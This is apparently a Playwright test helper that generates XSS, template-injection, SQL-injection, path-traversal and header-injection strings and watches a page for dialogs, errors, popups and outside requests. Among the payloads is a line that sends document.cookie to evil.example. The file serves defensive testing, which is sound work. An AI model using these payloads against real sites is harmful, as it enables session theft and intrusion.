"""Texts that mean harm on a page, and a page that is watched for what they do."""

from typing import Final

from playwright.sync_api import Dialog, Page, Request

_RUNS: Final = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math><mtext></table><img src onerror={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<a href='javascript:{}'>x</a>",
    "<form action='javascript:{}'><button>x",
    "<object data='javascript:{}'>",
    "<embed src='javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<link rel=stylesheet href='javascript:{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</pre></code><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "`onload={}`",
    "[x](javascript:{})",
    "![x](javascript:{})",
    "<javascript:{}>",
    "[x]: javascript:{}\n\n[x]",
    "```html\n<script>{}</script>\n```",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "<scr\0ipt>{}</scr\0ipt>".replace("\0", "\t"),
    "<SCRIPT>{}</SCRIPT>",
    "<x contenteditable onblur={}>",
    "<style>@import 'javascript:{}'</style>",
    "<marquee onstart={}>",
)

_CALLS: Final = ("alert(1)", "fetch('http://evil.example/?'+document.cookie)", "window.owned=1")

_ODD: Final = (
    "{{ 7 * 7 }}{% raw %}{{ t }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "https://evil.example/x.png",
    "![x](http://evil.example/x.png)",
    "<img src=http://evil.example/x.png>",
    "<link rel=prefetch href=http://evil.example/>",
    "\u202egnp.exe",
    "\u2066hidden\u2069 \u200bzero",
    "\U000e0041\U000e0042 tags",
    "x" * 3000,
    "ض" * 200 + " العربية",
    "Z̸̡̛a̷l̴g̵o̶" * 20,
    "a\nb\n\n# c\n- d",
    "'; DROP TABLE runs; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: a=b",
    "data:text/html,<script>alert(1)</script>",
    "constructor __proto__ toString",
    "🏳️‍🌈 👩‍👩‍👧‍👦",
    "\u00a0nothing\u3000",
)


def list_hostile_texts() -> list[str]:
    """At least 120 texts that mean harm."""
    made = [
        one.replace("{}", call) for one in _RUNS for call in _CALLS[:2] if call == _CALLS[0] or "<" in one
    ]
    return [*made, *(one.replace("{}", _CALLS[2]) for one in _RUNS), *_ODD]


class WatchedPage:
    """A page of which everything is noted that it must not do."""

    def __init__(self, page: Page, url: str) -> None:
        self.page, self.bad, self._url = page, list[str](), url
        page.on("dialog", self._asks)
        page.on("console", lambda message: self.bad.append(f"console {message.text}"))
        page.on("pageerror", lambda error: self.bad.append(f"error {error}"))
        page.on("popup", lambda popup: self.bad.append(f"popup {popup.url}"))
        page.on("request", self._loads)

    def _asks(self, dialog: Dialog) -> None:
        self.bad.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _loads(self, request: Request) -> None:
        if not request.url.startswith((f"{self._url}/", "ws://127.0.0.1")):
            self.bad.append(request.url)
